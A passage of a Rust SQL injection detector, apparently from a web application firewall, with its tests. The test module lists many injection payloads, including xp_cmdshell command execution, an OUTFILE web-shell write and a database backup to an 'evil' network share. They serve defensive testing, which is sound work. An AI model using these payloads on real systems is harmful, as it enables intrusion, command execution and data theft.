        (Some(x), Some(y)) => text.get(x.start..x.end) == text.get(y.start..y.end),
        _ => false,
    }
}

/// Whether a comparison follows at `i`: `= x`, `LIKE 'x'`, `IS NULL`, `IN (`, `BETWEEN`.
fn compared_at(t: &[Token], i: usize) -> bool {
    use Kw::*;
    match kind(t, i) {
        Some(Tok::Cmp) => operand(t, i + 1).is_some(),
        Some(Tok::Kw(Like | Regexp)) => {
            matches!(kind(t, i + 1), Some(Tok::Str { .. } | Tok::Bare | Tok::Num))
                // `LIKE char(37)`
                || (matches!(kind(t, i + 1), Some(Tok::Func(_)))
                    && matches!(kind(t, i + 2), Some(Tok::LParen)))
                // `SOUNDS LIKE 1`
                || (matches!(kind(t, i), Some(Tok::Kw(Regexp))) && compared_at(t, i + 1))
        }
        // `NOT LIKE 0`, `NOT BETWEEN 0 AND 1`, `NOT IN (...)`.
        Some(Tok::Kw(Not)) => {
            matches!(kind(t, i + 1), Some(Tok::Kw(Like | Regexp | Between | In)))
                && compared_at(t, i + 1)
        }
        // `2+1=3`: arithmetic on the left of the comparison (bounded: each step moves on).
        Some(Tok::Arith) => {
            operand(t, i + 1).is_some_and(|(end, _)| end > i && compared_at(t, end))
        }
        Some(Tok::Kw(Is)) => matches!(kind(t, i + 1), Some(Tok::Kw(Null | Not | True | False))),
        Some(Tok::Kw(In)) => matches!(kind(t, i + 1), Some(Tok::LParen)),
        Some(Tok::Kw(Between)) => matches!(kind(t, i + 1), Some(Tok::Num | Tok::Str { .. })),
        _ => false,
    }
}

/// `or 1=1`, `or 'a'='a'`: a comparison of a literal with itself after a logical operator.
fn tautology(t: &[Token], text: &[u8], i: usize) -> Verdict {
    // The comparison may be parenthesized: `or (1=1)`, `') or ('a'='a`.
    let mut j = i + 1;
    while matches!(kind(t, j), Some(Tok::LParen)) && j - i <= 3 {
        j += 1;
    }
    let (a, b, c) = (t.get(j)?, t.get(j + 1)?, t.get(j + 2)?);
    if b.kind != Tok::Cmp {
        return None;
    }
    let same = matches!(
        (a.kind, c.kind),
        (Tok::Num, Tok::Num) | (Tok::Str { .. }, Tok::Str { .. })
    ) || (a.kind == Tok::Bare
        && c.kind == Tok::Bare
        && text.get(b.start..b.end) == Some(b"=".as_slice())
        && same_text(t, text, j, j + 2));
    // `or a=a`: a column compared with itself is as true as `1=1`.
    same.then_some((Severity::High, 0.85, i, j + 3))
}

/// Looks for SQL injection in a decoded value.
pub fn detect(text: &str, out: &mut Vec<Finding>) {
    let syntax = json_operator(text)
        .or_else(|| odbc_call(text.as_bytes()))
        .or_else(|| versioned_comment(text.as_bytes()));
    if let Some((start, end)) = syntax {
        out.push(Finding {
            threat: ThreatType::SqlInjection,
            severity: Severity::High,
            confidence: 0.85,
            start,
            end,
        });
    }
    // Token buffers kept per thread: a request has a dozen values and each reading grew its
    // own vector, a hundred allocations per request. At most MAX_TOKENS each, so bounded.
    thread_local! {
        static BUFFERS: std::cell::RefCell<(Vec<Token>, Vec<Token>)> =
            const { std::cell::RefCell::new((Vec::new(), Vec::new())) };
    }
    BUFFERS.with(|buffers| match buffers.try_borrow_mut() {
        Ok(mut buffers) => {
            let (t, best) = &mut *buffers;
            detect_with(text, out, t, best);
        }
        // Not re-entered today; were it, fresh buffers rather than a panic.
        Err(_) => detect_with(text, out, &mut Vec::new(), &mut Vec::new()),
    });
}

/// PostgreSQL's and MySQL's JSON operators between JSON literals: `OR '{"b":2}'::jsonb <@
/// '{"a":1,"b":2}'`, `OR '[1,2]' ? '1'`, `'{"a":1}'::jsonb #> '{a,b}'`. A condition WAFs
/// long did not parse (Team82's 2022 bypass): a string holding a JSON document, cast to
/// `json`/`jsonb` or after `OR`/`AND`, then a JSON or comparison operator.
fn json_operator(text: &str) -> Option<(usize, usize)> {
    const OPERATORS: [&str; 17] = [
        "@>", "<@", "?|", "?&", "->>", "->", "#>>", "#>", "#-", "@?", "@@", "||", "?", "<", ">",
        "=", "-",
    ];
    let b = text.as_bytes();
    memchr::memchr2(b'{', b'[', b)?;
    let blanks = |mut k: usize| {
        while k < b.len() && b[k].is_ascii_whitespace() {
            k += 1;
        }
        k
    };
    for open in memchr::memchr_iter(b'\'', b) {
        let first = blanks(open + 1);
        if !matches!(b.get(first), Some(b'{' | b'[')) {
            continue;
        }
        let (close, closed) = string_end(b, open + 1, b'\'');
        if !closed {
            continue;
        }
        let mut k = blanks(close);
        let rest = |k: usize| text.get(k..).unwrap_or("");
        // Compared as bytes: a slice of the text could cut a character in two.
        let cast = ["::jsonb", "::json"].iter().find(|c| {
            b.get(k..k + c.len())
                .is_some_and(|w| w.eq_ignore_ascii_case(c.as_bytes()))
        });
        if let Some(c) = cast {
            k = blanks(k + c.len());
        }
        let Some(operator) = OPERATORS.iter().find(|o| rest(k).starts_with(*o)) else {
            continue;
        };
        let before = text[..open].trim_end();
        // The word before the quote, as bytes: the byte after a non-letter is where an ASCII
        // word starts, a character boundary whatever came before it.
        let logic = {
            let before = before.as_bytes();
            let word_start = before
                .iter()
                .rposition(|c| !c.is_ascii_alphabetic())
                .map_or(0, |p| p + 1);
            let word = &before[word_start..];
            word.eq_ignore_ascii_case(b"or") || word.eq_ignore_ascii_case(b"and")
        };
        // The other side: another string or a number after the operator.
        let other = blanks(k + operator.len());
        let operand = matches!(b.get(other), Some(b'\'' | b'0'..=b'9'))
            || rest(other)
                .get(..5)
                .is_some_and(|w| w.eq_ignore_ascii_case("array"));
        // Cast and compared as the value itself (`'{"a":1}'::jsonb #- '{1,b}'`, `x='[1]'::jsonb
        // - 1`): a probe. Inside a longer query it is a query about JSON, judged as SQL is.
        let whole_value = before.is_empty() || before.ends_with('=');
        if operand && (logic || (cast.is_some() && whole_value)) {
            return Some((open, other.min(b.len())));
        }
    }
    None
}

/// A value that is a lone quote, after a number or before a comment (`'`, `1'`, `"`, `` ` ``,
/// `' --`): the first thing a SQL injection scanner sends, to see whether the quote breaks the
/// query. No field means anything by it. Kept that narrow on purpose: other punctuation-only
/// strings (`"///`, `'-"8`, `\\`) turn up in real traffic, and `15"` is a size in inches.
fn quote_probe(text: &str) -> bool {
    let value = text.trim();
    // sqlmap's heuristic check: the original value, then ten characters drawn from quotes,
    // parentheses, commas and dots (`1'"(()"),("`), to see which of them breaks the query.
    let tail_start = value
        .bytes()
        .position(|b| matches!(b, b'"' | b'\'' | b'(' | b')' | b',' | b'.'))
        .unwrap_or(value.len());
    let tail = &value.as_bytes()[tail_start..];
    let head = &value.as_bytes()[..tail_start];
    if (6..=16).contains(&tail.len())
        && head.len() <= 20
        && head.iter().all(u8::is_ascii_alphanumeric)
        && tail
            .iter()
            .all(|b| matches!(b, b'"' | b'\'' | b'(' | b')' | b',' | b'.'))
        && tail.iter().any(|b| matches!(b, b'"' | b'\''))
        && tail.iter().any(|b| matches!(b, b'(' | b')'))
        && tail.iter().any(|b| matches!(b, b',' | b'.'))
    {
        return true;
    }
    let core = value.trim_start_matches(|c: char| c.is_ascii_digit());
    let after_number = core.len() < value.len();
    match core {
        "'" | "`" | "' --" | "'--" | "' #" | "'#" | "' -- -" | "/*'*/" => true,
        "\"" => !after_number,
        // `1\`: an escape that eats the application's closing quote.
        "\\" => after_number,
        _ => false,
    }
}

fn detect_with(
    text: &str,
    out: &mut Vec<Finding>,
    t: &mut Vec<Token>,
    best_tokens: &mut Vec<Token>,
) {
    if text.len() <= 40 && quote_probe(text) {
        out.push(Finding {
            threat: ThreatType::SqlInjection,
            severity: Severity::High,
            confidence: 0.6,
            start: 0,
            end: text.len(),
        });
        return;
    }
    t.clear();
    best_tokens.clear();
    let bytes = text.as_bytes();
    let mut best: Verdict = None;
    let mut signals = 0;
    for open in [
        Open::Nothing,
        Open::Quote(b'\''),
        Open::Quote(b'"'),
        Open::Quote(b'`'),
        Open::Quote(b'$'),
    ] {
        if let Open::Quote(q) = open {
            // The first such quote must close the string the application opened; a letter
            // right after it (`don't`, `O'Brien`) means it is an apostrophe, not a breakout,
            // unless the value starts with a single quote (`'goto label; ...`: an empty string
            // closed; prose opens quotations with `"`).
            let closing = open.closing();
            let first = if q == b'$' {
                memchr::memchr_iter(b'$', bytes).find(|&p| bytes.get(p + 1) == Some(&b'$'))
            } else {
                memchr::memchr(q, bytes)
            };
            match first.map(|p| p + closing.len()) {
                None => continue,
                Some(p)
                    if (p > closing.len() || q != b'\'')
                        && bytes.get(p).is_some_and(u8::is_ascii_alphabetic)
                        && classify(&bytes[p..word_end(bytes, p)]) == Tok::Bare =>
                {
                    continue
                }
                Some(_) => {}
            }
        }
        // A breakout shows in the first tokens after the quote; only the plain reading
        // needs the whole value (bounded by MAX_TOKENS).
        let limit = match open {
            Open::Nothing => MAX_TOKENS,
            Open::Quote(_) => QUOTED_TOKENS,
        };
        let ended_by_comment = tokenize(bytes, open, limit, t);
        // The string our quote closed: one short word (`admin`), not a sentence with an
        // apostrophe or a measurement in inches.
        let short_word = match (open, t.first()) {
            (Open::Quote(q), Some(first)) => {
                let content = &bytes[first.start
                    ..first
                        .end
                        .saturating_sub(open.closing().len())
                        .max(first.start)];
                content.len() <= 40
                    && !content.iter().any(u8::is_ascii_whitespace)
                    && !(q == b'"'
                        && !content.is_empty()
                        && content
                            .iter()
                            .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b'/'))
            }
            _ => false,
        };
        let verdict = judge(t, bytes, ended_by_comment, open, short_word);
        if verdict.is_some() {
            signals += 1;
        }
        if better(best, verdict) != best {
            best = verdict;
            std::mem::swap(best_tokens, t);
        }
    }
    let Some((mut severity, mut confidence, from, to)) = best else {
        return;
    };
    // A weak sign seen in more than one reading, or beside another, is stronger.
    if severity == Severity::Medium && signals > 1 && weak_signs(best_tokens) > 1 {
        severity = Severity::High;
        confidence = 0.75;
    }
    let start = best_tokens.get(from).map_or(0, |t| t.start);
    let end = best_tokens
        .get(to.saturating_sub(1).max(from))
        .map_or(text.len(), |t| t.end);
    out.push(Finding {
        threat: ThreatType::SqlInjection,
        severity,
        confidence,
        start,
        end: end.max(start),
    });
}

fn weak_signs(t: &[Token]) -> usize {
    t.iter()
        .filter(|x| {
            matches!(
                x.kind,
                Tok::Var { system: true } | Tok::Catalog | Tok::Func(Func::Danger)
            )
        })
        .count()
        + usize::from(t.iter().any(|x| x.kind == Tok::Kw(Kw::Select)))
        + usize::from(t.iter().any(|x| x.kind == Tok::Kw(Kw::From)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(text: &str) -> Option<Severity> {
        let mut out = Vec::new();
        detect(text, &mut out);
        out.first().map(|f| f.severity)
    }

    fn blocked(text: &str) -> bool {
        severity(text).is_some_and(|s| s >= Severity::High)
    }

    #[test]
    fn json_operators_between_json_literals_are_conditions() {
        for attack in [
            "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
            "1 or '[1,2]' ? '1'",
            "x' OR '{\"name\":\"asd\"}' ?| array['a','name']",
            "OR '[1,2,3]'::json ->> 2='3'",
            "'{\"a\": {\"b\": [\"foo\",\"bar\"]}}'::json #>> '{a,b,1}'",
            "'[1, 2]'::jsonb || '3'::jsonb",
            "AND '{\"a\":2,\"c\":[4,5,{\"f\":7}]}' -> '$.c[2].f' = 7",
        ] {
            assert_eq!(severity(attack), Some(Severity::High), "{attack}");
        }
        for benign in [
            "select data from t where data @> '{\"a\":1}'::jsonb",
            "the config '{\"debug\": true}' - set it in settings.json",
            "choose '[a]' or '[b]'",
            "{\"a\": [1, 2]}",
            // A character of several bytes right after the string (found by the fuzzer: the
            // cast's comparison sliced it in two).
            "'[\"]'拐拐拐",
            "or '{x}'ëëëëëëë",
            "ë '[1]' = '1'",
        ] {
            assert_eq!(json_operator(benign), None, "{benign}");
        }
    }

    #[test]
    fn classic_injections() {
        for attack in [
            "' or 1=1--",
            "' OR '1'='1",
            "admin'--",
            "admin' #",
            "' or ''='",
            "'='",
            "') or ('1'='1",
            "1 or 1=1",
            "1) or (1=1",
            "-1 UNION SELECT 1,2,3",
            " UNION ALL SELECT 'INJ'||'ECT'||'XXX',2,3,4-- ",
            "1; DROP TABLE users",
            "'; exec master..xp_cmdshell 'dir'--",
            "1 AND SLEEP(5)",
            "' AND BENCHMARK(5000000,MD5(1))#",
            "'; WAITFOR DELAY '0:0:5'--",
            " ORDER BY 5 ",
            " HAVING 1=1",
            "' or uname like '%",
            "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
            "1/*!50000union*/ /*!50000select*/ 1,2",
            "UNION/**/SELECT/**/password/**/FROM/**/users",
            "' or true--",
            "select @@version",
            "1' ORDER BY 1--+",
            "' INTO OUTFILE '/var/www/shell.php",
            "BACKUP database master to disk='\\\\10.0.0.1\\share\\backupdb.dat'",
            "'; backup database master to disk='\\\\evil\\x\\db.bak'--",
            "1 or (1=1)",
            ") or ('1'='1",
        ] {
            assert!(blocked(attack), "missed {attack:?}: {:?}", severity(attack));
        }
    }

    #[test]
    fn prose_and_names_are_not_sql() {
        for benign in [
            "O'Brien",
            "Mr O'Brien's dog",
            "select the best option from the list",
            "Select all that apply",
            "I don't know -- maybe tomorrow",
            "The students' or teachers' books",
            "rock 'n' roll or jazz",
            "\"I don't believe it,\" said the Pigeon; \"but if they do, why then they're a kind of serpent\"",
            "2 or 3 people",
            "1 or 2",
            "Tom & Jerry; drop by anytime",
            "WHERE IS THE SHOW",
            "20 SET 3",
            "order by date please",
            "It's 5 o'clock -- time for tea",
            "user@example.com",
            "Let's update the table; then select a winner",
            "How do I backup database master to disk every night?",
            "backup log files to disk (2 or (3 copies))",
            "choose 1 or (2 or 3)",
        ] {
            assert!(!blocked(benign), "false alarm on {benign:?}: {:?}", severity(benign));
        }
    }

    /// sqlmap's boundaries that close a subquery and give it an alias before the test.
    #[test]
    fn a_closed_subquery_with_an_alias_then_a_condition() {
        for attack in [
            "1\") AS XsXY WHERE 5470=5470 OR ELT(7897=7897,2732) -- nwMW",
            "1)) AS UCFm WHERE 9191=9191 AND MAKE_SET(4342=4342,7896) -- XBDs",
            "-5341') AS qVQe WHERE 2700=2700 OR NOT 6815=6815 -- Wrvw",
        ] {
            assert!(blocked(attack), "missed {attack:?}: {:?}", severity(attack));
        }
        for benign in [
            "the first (and best) as ever where it counts",
            "see (2) as noted where possible",
        ] {
            assert!(
                !blocked(benign),
                "false alarm on {benign:?}: {:?}",
                severity(benign)
            );
        }
    }

    /// sqlmap's other closings and its tests that evaluate a condition inside a call.
    #[test]
    fn sqlmaps_boundaries_and_parameter_replacements() {
        for attack in [
            "1` WHERE 4242=4242 AND 1717=1717 -- abcd",
            "1`=`1` AND 2020=2020 AND `1`=`1",
            "1$$ OR NOT 3131=3131 -- xyzw",
            "1' IN BOOLEAN MODE) AND 5151=5151 #",
            "ELT(8080=8080,1)",
            "(6060=6060)*1",
            "IIF(7070=7070,1,1/0)",
            "(CASE WHEN 9090=9090 THEN 1 ELSE NULL END)",
            "1 ,(CASE WHEN 1212=1212 THEN 1 ELSE NULL END)",
            "1) AND CASE WHEN 3434=3434 THEN 3434 ELSE JSON('abcd') END -- q",
            "(EXTRACTVALUE(4545,CONCAT(0x5c,0x71)))",
            "1;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(77),0),500000000),NULL)",
            "1;BEGIN USER_LOCK.SLEEP(5); END",
            "1  DECLARE @v CHAR(9) SET @v=0x303a303a35 WAITFOR DELAY @v --",
        ] {
            assert!(blocked(attack), "missed {attack:?}: {:?}", severity(attack));
        }
    }

    /// Families of the field's test suites beyond sqlmap: ODBC escapes, versioned comments,
    /// MySQL's implicit comparisons, expressions between the application's quotes, original
    /// values of several tokens, whole statements.
    #[test]
    fn the_other_families() {
        for attack in [
            "x' or {fn length(user())}>0 --",
            "{fn database()}",
            "/*!40000 2/0, */ 7",
            "Q' AND 'R",
            "' || '",
            "zz' or col^'-1",
            "7' -2 or '7",
            "' is 123 = '",
            "bb' or somecol && '1",
            "\\' or 2=2--",
            "15,16 order by 9",
            "'300' AND (version() like '%5%')",
            "-(1) for update union select 1",
            "item-9 or 1 group by concat(version(),floor(rand(0)*2)) having min(0)--",
            "55 union",
            "-77 union 1,2,3",
            "2*(ascii(mid(user(),1,1))>60)",
            "( COS ( 1 OR @a ) )  --",
            "( BINARY BINARY ( 'q') )  --",
            "select sin(2),3 from tbl where",
            "select top 1 column_name from information_schema.columns",
            "select name, pass from members where 1",
            "33 update Pages set Title=REPLACE(Title,'a','b')",
            "CHARSET(CURRENT_USER())",
            "case 3 when 4 then 5 end",
            "4 AND 4 NOT LIKE 0",
            "9 --",
            "@version /*",
            "1;call p(@version)",
            "41 or 1 group by concat(version(),floor(rand(0)*2)) having min(0)--",
            "1#abc\nAND#def\n8080=8080",
            "20 UNION exec master..xp_cmdshell 'dir'",
            "uid having (1 or true)",
            "page=4 or 1=@@version",
            "WORD AND COS(2)=SIN(3)",
            "yo or b=b",
            "x@y.z' and email = all (select email)--",
            "user' collate nocase--",
            "5=5",
            "42 like 42",
            "'goto a; a: declare @s varchar(99);set @s = cast(0x41 as varchar(99));exec(@s)--",
            "'; execute immediate 'sel' || 'ect 1'",
        ] {
            assert!(blocked(attack), "missed {attack:?}: {:?}", severity(attack));
        }
        for benign in [
            "2'+X+6'+PLANK",
            "BUILD_FLAGS=\"-DNDEBUG -DLEVEL=2\"",
            "\"*\"",
            "select x from y where",
            "Select 3 from the list below",
            "1,2--",
            "8-bit Limit (RAM)",
            "labor union",
            "salt and pepper = seasoning",
            "James' book or 'novel",
            "case studies show it",
            "select 'or'",
            "SMALL \"|\" SIGN",
            "`npm install` or `yarn add`",
            "Use `$$` or `$` for math",
            "Union",
            "Loving it #summer\nsee you",
            "kids having (fun or games)",
            "x'~note--",
            "1=2",
            "7 like 8",
            "11!=11",
            "\"(In fact, we go in!)\"",
            "'Tis the season; set the table",
        ] {
            assert!(
                !blocked(benign),
                "false alarm on {benign:?}: {:?}",
                severity(benign)
            );
        }
    }

    /// `KNOWN_WORDS` feeds the lexer's fast table: a word added to `keyword`, `function` or
    /// `catalog` but not to it would never be recognised. Read the source to keep them in step.
    #[test]
    fn every_word_the_lists_know_is_in_the_fast_table() {
        let source = include_str!("sqli.rs");
        let start = source.find("fn keyword(word: &str)").expect("keyword()");
        let end = source.find("const KNOWN_WORDS").expect("KNOWN_WORDS");
        let mut words = source[start..end].split('"').skip(1).step_by(2);
        let missing: Vec<&str> = words
            .by_ref()
            .filter(|w| !w.is_empty() && !KNOWN_WORDS.contains(w))
            .collect();
        assert!(missing.is_empty(), "add to KNOWN_WORDS: {missing:?}");
    }

    #[test]
    fn names_beyond_the_table_are_known_by_their_parts() {
        assert_eq!(classify(b"master..xp_cmdshell"), Tok::Func(Func::Danger));
        assert_eq!(classify(b"XP_anything"), Tok::Func(Func::Danger));
        assert_eq!(classify(b"sp_"), Tok::Func(Func::Danger));
        assert_eq!(classify(b"INFORMATION_SCHEMA.columns"), Tok::Catalog);
        assert_eq!(classify(b"information_schema.tables"), Tok::Catalog);
        assert_eq!(classify(b"part.trim"), Tok::Bare);
        assert_eq!(classify(b"map_err"), Tok::Bare);
        assert_eq!(classify(b"Sleep"), Tok::Func(Func::Time));
    }

    #[test]
    fn a_sort_spelled_in_words_is_not_a_clause() {
        assert!(!blocked("Order by date, then by name"));
        assert!(!blocked("group by region"));
        for clause in [
            "ORDER BY 5",
            "order by 1,2,3",
            "1 order by name--",
            "order by name--",
        ] {
            assert!(blocked(clause), "missed {clause:?}");
        }
    }

    #[test]
    fn a_lone_quote_is_a_probe() {
        for probe in [
            "'",
            "1'",
            "\"",
            "`",
            "1`",
            " ' -- ",
            "1\\",
            "1/*'*/",
            "@@version",
            "1'\"(()\"),(\"",
            "7).(\"'.(.,",
        ] {
            assert!(blocked(probe), "missed {probe:?}");
        }
        for benign in [
            "\"\"", "\" \"", "5'10\"", "15\"", "O'Brien", "it's", "-", "1", "a'", "\"///", "'-\"8",
            "\\",
        ] {
            assert!(!blocked(benign), "flagged {benign:?}");
        }
    }

    #[test]
    fn hostile_input_is_bounded() {
        let long = "'".repeat(100_000) + &"(".repeat(100_000) + &"or 1=1 ".repeat(10_000);
        let mut out = Vec::new();
        detect(&long, &mut out);
        let weird = "\u{fffd}'\u{1F600}\"`/*!".repeat(1000);
        detect(&weird, &mut out);
    }
}
